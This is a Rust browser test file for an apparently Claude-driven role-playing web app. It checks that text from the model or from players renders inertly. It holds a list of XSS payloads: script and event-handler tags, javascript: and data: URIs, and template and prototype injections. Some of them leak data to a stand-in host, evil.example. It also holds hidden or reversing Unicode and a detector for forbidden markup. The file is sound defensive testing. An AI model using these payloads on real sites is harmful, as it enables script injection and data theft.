//! Browser tests of hostile texts of models and players: nothing of them runs, loads, links elsewhere or looks like the page.

use serde_json::{Value, json};

use crate::{
    chromium::Chromium,
    house::House,
    support::{ScriptedClaude, calls, says},
    tab::Tab,
};

/// Each would do something, were it more than words; most would leave a mark called `pwned`.
pub(crate) const STRINGS: [&str; 48] = [
    "<script>pwned=1;document.title='pwned'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</p><script>pwned=1</script>",
    "<img src=x onerror=\"pwned=1;document.title='pwned'\">",
    "<img src=//evil.example/leak.png>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><image href=//evil.example/a.svg></svg>",
    "<svg><use href='data:image/svg+xml,x#a'></svg>",
    "<math><mtext><script>pwned=1</script></mtext></math>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='javascript:pwned=1'>",
    "<form action=//evil.example><input name=key></form>",
    "<button formaction='javascript:pwned=1'>go</button>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<body onload=pwned=1>",
    "<style>*{background:url(//evil.example/s)}</style>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<a href='javascript:pwned=1'>here</a>",
    "<div style='position:fixed;inset:0'>over all</div>",
    "<template><script>pwned=1</script></template>",
    "<!--><script>pwned=1</script-->",
    "<![CDATA[<script>pwned=1</script>]]>",
    "<x onclick=pwned=1 tabindex=0>press</x>",
    "[here](javascript:pwned=1)",
    "[here](//evil.example)",
    "![a](https://evil.example/leak.png?d=secret)",
    "![a](data:image/svg+xml,<svg onload=pwned=1>)",
    "[a]: javascript:pwned=1 \"t\"",
    "<https://evil.example/auto>",
    "https://evil.example/bare?d=secret",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "\u{202e}eman desrever\u{202c}",
    "\u{2066}hidden\u{2069} \u{200f}mark",
    "nul\u{0}byte and bell\u{7}",
    "tag \u{e0041}\u{e0042} letters \u{feff}",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1} #{pwned=1} <%= pwned=1 %>",
    "\"><script>pwned=1</script>",
    "'-pwned=1-' `+pwned+`",
    "__proto__ constructor toString",
];

/// Nothing ran, nothing was made of the words but text, and no sign turns them round.
pub(crate) async fn must_be_inert(tab: &Tab, place: &str) {
    let found: Value = tab
        .read(
            r#"(() => {
                const no = 'script:not([src^="/js/"]), iframe, object, embed, style, base, math, video, audio, source, template, x, ' +
                    'link:not([href^="/"]), meta[http-equiv], img:not([src^="/"]), image, use, foreignObject, body form form, .turn form, ' +
                    '.turn input, .adventures form, .adventures input, a[href]:not([href="/"], [href^="\#"], [href^="/api/campaigns/"][download]), [formaction], [srcdoc]';
                const wrong = [...document.querySelectorAll(no)].map((element) => element.outerHTML);
                // The page itself gives an element a number or a height, and nothing else.
                const ours = /^((--[a-z]+: [\d.]+|height: (auto|[\d.]+px)); ?)*$/;
                for (const element of document.querySelectorAll('[style]')) if (!ours.test(element.getAttribute('style'))) wrong.push(element.outerHTML);
                for (const element of document.querySelectorAll('*'))
                    for (const { name, value } of element.attributes)
                        if (name.startsWith('on') || /^\s*(javascript|data):/i.test(['href', 'src', 'action'].includes(name) ? value : ''))
                            wrong.push(element.outerHTML);
                if (/[\u0000-\u0008\u000b-\u001f\u200f\u202a-\u202e\u2066-\u2069\ufeff\u{e0041}]/u.test(document.documentElement.outerHTML)) wrong.push("a sign that hides or turns");
                if ("pwned" in globalThis || document.title.toLowerCase() === "pwned") wrong.push("something ran");
                return wrong;
            })()"#,
        )
        .await;
    assert_eq!(found, json!([]), "{place}");
}

/// A turn in which the model writes these wherever it can, and says them.
fn everywhere(claude: &ScriptedClaude, strings: &[&str]) {
    let first = strings[0];
    let creatures: Vec<_> =
        strings.iter().map(|name| json!({"name": name, "slug": "goblin", "disposition": "neutral"})).collect();
    let weapon = |name| json!({"name": name, "dice": "1d4", "stat": "str", "damage_type": name, "range": name});
    let weapons: Vec<_> = strings.iter().map(weapon).collect();
    let update = json!({
        "items_gained": strings, "npcs_met": strings, "quests_added": strings, "important_event": strings, "notable_event": strings,
        "conditions_added": strings, "milestone": first, "location_changed": first, "scene_update": first,
        "campaign_summary_update": strings.join(" "), "reveal_poi": first, "npcs_to_create": creatures, "weapons_gained": weapons,
        "spells_learned": strings, "feature_choice_updates": {first: first},
    });
    let write = calls("update_game_state", update)
        .and_calls("create_supporting_npc", json!({"name": first, "role": first, "context": first}))
        .and_calls("roll_dice", json!({"dice": "1d20", "reason": first}))
        .and_calls(&format!("tool {first}"), json!({}));
    let profile = json!({"appearance": first, "personality": first, "motivations": strings, "notes": first});
    claude.helper_will([says(profile.to_string())]);
    claude.will([write, says(strings.join("\n\n"))]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_model_writes_stays_words_in_every_field() {
    let Some(chromium) = Chromium::open().await else { return };
    let claude = ScriptedClaude::start().await;
    let house = House::of_claude(&claude).await;
    let tab = chromium.tab(&house.url()).await;
    tab.begin().await;
    for strings in STRINGS.chunks(6) {
        claude.expect_words("I read on.");
        everywhere(&claude, strings);
        tab.say("I read on.").await;
        must_be_inert(&tab, strings[0]).await;
    }
    let said: String =
        tab.read("[...document.querySelectorAll('.telling')].map((telling) => telling.textContent).join(' ')").await;
    // Set as in print, and otherwise as they were written.
    let said = said.replace(['“', '”'], "\"").replace(['‘', '’'], "'");
    let n_said = STRINGS.iter().filter(|string| said.contains(**string)).count();
    assert!(n_said >= 36, "{n_said} of them stand there as they were written: {said}");
    tab.reload().await;
    tab.at_table().await;
    must_be_inert(&tab, "told again").await;
    for (key, panel) in [("Alt+2", "journal"), ("Alt+3", "dice"), ("Alt+4", "cost"), ("Alt+1", "hero")] {
        tab.press(key).await;
        tab.see(&format!("#panel-{panel} h2"), "").await;
        tab.run("document.querySelectorAll('details').forEach((details) => { details.open = true; })").await;
        must_be_inert(&tab, panel).await;
    }
    assert!(
        tab.holds("document.querySelector('#panel-journal').textContent.includes('<svg')").await,
        "they did arrive"
    );
    tab.click("[data-key=sheet]", "").await;
    tab.see("dialog.sheet", "").await;
    must_be_inert(&tab, "sheet").await;
    tab.click("dialog.sheet [data-key=purse]", "").await;
    tab.see("dialog.why", "").await;
    must_be_inert(&tab, "why").await;
    chromium.close([tab]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_player_writes_stays_words_too() {
    let Some(chromium) = Chromium::open().await else { return };
    let house = House::of_storyteller().await;
    let tab = chromium.tab(&house.url()).await;
    tab.see(".hero-card", "").await;
    let mut last = String::new();
    let mut n_begun = 0;
    for string in STRINGS {
        let hero = json!({"name": string, "class": "fighter", "race": "human", "background": string});
        // What is too long for a name, or no name at all, is refused; a title takes more.
        for body in [json!({"title": string, "character": hero}), json!({"title": string})] {
            if let Some(id) = house.begin(&body).await {
                (last, n_begun) = (id, n_begun + 1);
                break;
            }
        }
    }
    assert!(n_begun >= 40, "{n_begun} adventures began");
    tab.reload().await;
    tab.until("document.querySelectorAll('.adventures li').length === 20").await;
    must_be_inert(&tab, "list").await;
    tab.click(".sessions button", "Show older ones").await;
    tab.until("document.querySelectorAll('.adventures li').length === 40").await;
    must_be_inert(&tab, "longer list").await;
    tab.click(".adventures li button", "").await;
    tab.click("dialog button", "Delete").await;
    tab.see("dialog .danger", "Delete for good").await;
    must_be_inert(&tab, "question").await;
    tab.click("dialog .close", "").await;
    tab.turn_to(&format!("#/s/{last}")).await;
    tab.at_table().await;
    for string in STRINGS.iter().filter(|string| !string.contains('\0')) {
        tab.say(string).await;
    }
    must_be_inert(&tab, "table").await;
    let forbidden = "(() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch { return true; } })()";
    assert!(tab.holds(forbidden).await, "markup can be made of text");
    assert!(!tab.forgive().await.is_empty(), "and the browser says so");
    chromium.close([tab]).await;
}
